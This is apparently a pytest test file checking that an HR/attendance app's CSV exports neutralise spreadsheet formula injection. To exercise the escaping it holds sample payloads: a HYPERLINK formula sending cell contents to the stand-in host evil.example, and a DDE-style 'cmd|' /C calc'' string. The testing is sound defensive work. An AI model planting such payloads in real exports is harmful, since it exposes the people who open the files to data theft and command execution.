"""No CSV the server or the CLI writes can carry a formula, whichever separator a reader uses."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from starlette.testclient import TestClient

from backend import csvsafe
from backend.accounts import create_admin
from backend.db import employees, units
from tests import fixtures_month as fm
from tests.conftest import app_db, run
from tests.support.admin import PASSWORD, login_token, make_admins, sign_in

ROOT = Path(__file__).resolve().parents[1]
EVIL = '=HYPERLINK("http://evil.example/?c="&A3,"x")'
EVIL_UNIT = "@SUM(1+1)*cmd|' /C calc'!A0"
# A number the server wrote, never text someone typed (read at ';', the next field may follow).
NUMBER = re.compile(r'-?\d+(\.\d+)?(,".*)?', re.S)
# What a spreadsheet may run: a formula sign first, perhaps after quotes or white space.
SIGNS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")


def cells(text: str) -> list[str]:
    """Every cell as a spreadsheet would split the file: at ',' and, as Indonesian Excel
    does, at ';' (both honour the double quotes)."""
    text = text.lstrip("\ufeff")
    found = []
    for delimiter in (",", ";"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            found.extend(row)
    return found


def assert_no_formula(text: str) -> None:
    for cell in cells(text):
        if NUMBER.fullmatch(cell):
            continue
        assert cell.strip(' \t\r\n"')[:1] not in SIGNS, (cell, text[:400])


def test_neutralise() -> None:
    for value in ("=1+1", "+1", "-K.001", "@SUM(A1)", "\t=1", "\uff1d1+1"):
        assert csvsafe.neutralise(value) == "'" + value
        assert csvsafe.unescape("'" + value) == value
    # A line break ends a record for a reader that splits at the other separator (it does not
    # honour our quotes), so what follows it is a cell's start too.
    for value, written in (("\r=1", "'\r'=1"), ("\n=1", "'\n'=1"), ("a\r\n+1", "a\r\n'+1")):
        assert csvsafe.neutralise(value) == written
        assert csvsafe.unescape(written) == value
    assert csvsafe.neutralise("Ani") == "Ani"
    assert csvsafe.neutralise(-5) == -5 and csvsafe.neutralise(None) is None
    assert csvsafe.unescape("'Ani") == "'Ani"  # an apostrophe of the person's own stays


text_cell = st.text(max_size=12).filter(lambda s: not s.startswith("'"))


@given(st.lists(st.lists(text_cell | st.integers(), max_size=4), max_size=4))
@example([["", "\n="]])  # a line break inside quotes, then a formula sign (found by hypothesis)
def test_any_table_is_formula_free_and_reads_back(rows: list[list[Any]]) -> None:
    text = csvsafe.text(rows)
    assert_no_formula(text)
    back = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert [[csvsafe.unescape(c) for c in row] for row in back] == [
        [str(v) for v in row] for row in rows
    ]


def test_a_separator_inside_a_cell_starts_no_formula() -> None:
    text = csvsafe.text([["Budi;=1+1", "x;@SUM(A1);-2+3"]])
    assert "=1+1" in text
    assert_no_formula(text)


def test_no_other_csv_writer_in_the_project() -> None:
    """Every CSV goes through backend/csvsafe.py; a plain csv.writer would skip its rules."""
    offenders = []
    for folder in ("backend", "display_server", "scripts"):
        for path in (ROOT / folder).rglob("*"):
            if path.suffix not in ("", ".py") or not path.is_file() or path.name == "csvsafe.py":
                continue
            text = path.read_text(encoding="utf-8", errors="replace")
            if re.search(r"csv\.(writer|DictWriter)\(", text):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


def test_a_formula_typed_as_a_sign_in_name_is_text_in_the_audit_csv(
    client: TestClient, world: dict[str, Any]
) -> None:
    make_admins(client)
    failed = client.post(
        "/admin/login",
        data={"username": EVIL, "password": "whatever!", "login_token": login_token(client)},
        follow_redirects=False,
    )
    assert failed.status_code == 401
    client.cookies.clear()
    assert sign_in(client, "super_admin").status_code == 303
    export = client.get("/admin/audit/export.csv")
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.text.lstrip("\ufeff"))))
    failures = [r for r in rows if r[3] == "admin.login_failed"]
    assert [r[4] for r in failures] == ["'" + EVIL]
    assert_no_formula(export.text)


@pytest.fixture
def evil_month(client: TestClient) -> dict[str, Any]:
    """The fixture month with a formula for a name, a ';=' inside one, and a contract staff
    number starting with '-'."""
    db = app_db(client)
    info = run(client, fm.load, db)
    names = [name for name, _nip, _ in fm.STAFF]
    renames = {names[0]: (EVIL, None), names[1]: ("Budi;=1+1", None), names[2]: ("+Sari", "-K.001")}
    for old, (new, nip) in renames.items():
        values: dict[str, Any] = {"name": new}
        if nip:
            values.update(nip=nip, kind="contract")
        run(client, db.execute, employees.update().where(employees.c.name == old).values(values))
    run(client, db.execute, units.update().values(name=EVIL_UNIT))
    run(
        client, create_admin, db, username="hr.fix", password=PASSWORD,
        role="agency_admin", agency_id=info["agency_id"], actor="test",
    )  # fmt: skip
    client.app.state.presensi.extras["clock"] = lambda: fm.NOW  # type: ignore[attr-defined]
    assert sign_in(client, "hr.fix").status_code == 303
    return info


@pytest.mark.parametrize(
    "path",
    [
        "/admin/presence.csv?from=2026-12-01&to=2026-12-31",
        "/admin/recaps/daily.csv?from=2026-12-09&to=2026-12-09",
        "/admin/recaps/monthly.csv?month=2026-12",
        "/admin/employees/export.csv",
    ],
)
def test_every_export_is_formula_free(
    client: TestClient, evil_month: dict[str, Any], path: str
) -> None:
    response = client.get(path)
    assert response.status_code == 200, response.text[:300]
    assert_no_formula(response.text)
    rows = csv.reader(io.StringIO(response.text.lstrip("\ufeff")))
    written = [cell for row in rows for cell in row]
    if "employees" not in path:  # the employee list names units by their code
        assert "'" + EVIL_UNIT in written
    if "daily" not in path:  # the daily recap has a row per unit, not per person
        assert "'" + EVIL in written


def test_the_employee_export_imports_back_as_it_was(
    client: TestClient, evil_month: dict[str, Any]
) -> None:
    from backend.employees import check_csv

    db = app_db(client)
    text = client.get("/admin/employees/export.csv").text
    assert "'-K.001" in text
    moved = employees.update().where(employees.c.nip == "-K.001").values(nip="K-OLD")
    run(client, db.execute, moved)
    report = run(client, check_csv, db, evil_month["agency_id"], text)
    rows = [(r["nip"], r["name"], r["kind"]) for r in report.rows]
    assert rows == [("-K.001", "+Sari", "contract")]
